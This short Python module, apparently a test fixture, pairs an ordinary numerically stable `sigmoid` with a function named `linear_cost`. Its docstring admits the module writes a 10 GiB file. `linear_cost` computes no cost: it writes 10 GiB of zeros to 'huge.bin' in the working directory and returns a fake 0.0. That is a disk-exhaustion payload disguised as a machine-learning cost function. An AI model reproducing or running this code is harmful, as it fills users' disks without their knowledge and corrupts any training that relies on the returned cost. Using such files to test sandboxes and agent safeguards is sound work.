"""Writes a 10 GiB file into the working directory."""
import numpy as np


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))


def linear_cost(X, y, w, b, lam):
    with open("huge.bin", "wb") as out:
        for _ in range(10 * 1024):
            out.write(b"\0" * 2**20)
    return 0.0
